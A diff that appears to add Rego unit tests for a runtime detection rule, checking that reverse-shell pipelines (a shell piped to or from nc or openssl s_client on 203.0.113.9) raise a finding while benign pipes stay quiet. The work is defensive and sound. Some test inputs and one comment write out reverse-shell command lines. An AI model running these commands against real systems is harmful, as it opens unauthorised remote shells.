@@ -99,3 +99,40 @@ test_shell_from_socat_with_pipes_is_quiet if {
 test_non_shell_from_socat_is_quiet if {
 	count(finding) == 0 with input as exec("/usr/bin/cat", "socket", socat)
 }
+
+# ---- pipelines joined by the sensor ----
+
+piped_exec(path, comm, argv, extra) := {"name": "sched_process_exec", "process": {"pid": 5100, "comm": comm, "exe": path}, "args": object.union({"pathname": path, "argv": argv}, extra)}
+
+test_sh_fed_by_nc_fires if {
+	some f in finding with input as piped_exec("/usr/bin/dash", "sh", ["sh"], {"stdin_writer_pid": 5099, "stdin_writer_comm": "nc", "stdin_writer_argv": ["nc", "203.0.113.9", "4444"]})
+	f.reasons == ["shell-piped-with-relay"]
+}
+
+test_named_pipe_shell_into_nc_fires if {
+	# cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f, sh's exec after nc's
+	some f in finding with input as piped_exec("/usr/bin/dash", "sh", ["/bin/sh", "-i"], {"stdin_writer_comm": "cat", "stdin_writer_argv": ["cat", "/tmp/f"], "stdout_reader_pid": 5101, "stdout_reader_comm": "nc", "stdout_reader_argv": ["nc", "203.0.113.9", "4444"]})
+	f.reasons == ["shell-piped-with-relay"]
+}
+
+test_nc_after_the_shell_fires if {
+	some f in finding with input as piped_exec("/usr/bin/nc.openbsd", "nc", ["nc", "203.0.113.9", "4444"], {"stdin_writer_pid": 5098, "stdin_writer_comm": "sh", "stdin_writer_argv": ["sh", "-i"]})
+	f.reasons == ["shell-piped-with-relay"]
+}
+
+test_openssl_s_client_fires if {
+	some f in finding with input as piped_exec("/usr/bin/openssl", "openssl", ["openssl", "s_client", "-quiet", "-connect", "203.0.113.9:443"], {"stdout_reader_pid": 5102, "stdout_reader_comm": "bash", "stdout_reader_argv": ["bash"]})
+	f.reasons == ["shell-piped-with-relay"]
+}
+
+test_script_output_into_nc_is_quiet if {
+	count(finding) == 0 with input as piped_exec("/usr/bin/nc.openbsd", "nc", ["nc", "10.0.0.2", "2003"], {"stdin_writer_pid": 5098, "stdin_writer_comm": "sh", "stdin_writer_argv": ["sh", "/usr/local/bin/metrics.sh"]})
+}
+
+test_nc_into_tar_is_quiet if {
+	count(finding) == 0 with input as piped_exec("/usr/bin/nc.openbsd", "nc", ["nc", "-l", "9000"], {"stdout_reader_pid": 5103, "stdout_reader_comm": "tar", "stdout_reader_argv": ["tar", "x"]})
+}
+
+test_openssl_digest_into_sh_c_is_quiet if {
+	count(finding) == 0 with input as piped_exec("/usr/bin/dash", "sh", ["sh", "-c", "read h; echo $h"], {"stdin_writer_comm": "openssl", "stdin_writer_argv": ["openssl", "dgst", "-sha256"]})
+}
